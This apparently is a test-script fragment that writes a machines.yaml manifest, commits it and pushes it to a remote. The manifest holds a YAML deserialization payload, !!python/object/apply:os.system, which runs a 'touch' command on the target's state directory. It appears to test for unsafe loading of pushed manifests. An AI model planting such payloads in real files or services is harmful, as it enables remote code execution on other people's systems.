# says: machines.yaml
cat > machines.yaml <<'YAML'
machines: !!python/object/apply:os.system ["touch @VICTIM@/state/new"]
YAML
git add . && git commit -qm manifest
git push $OPTIONS toto HEAD:$REF
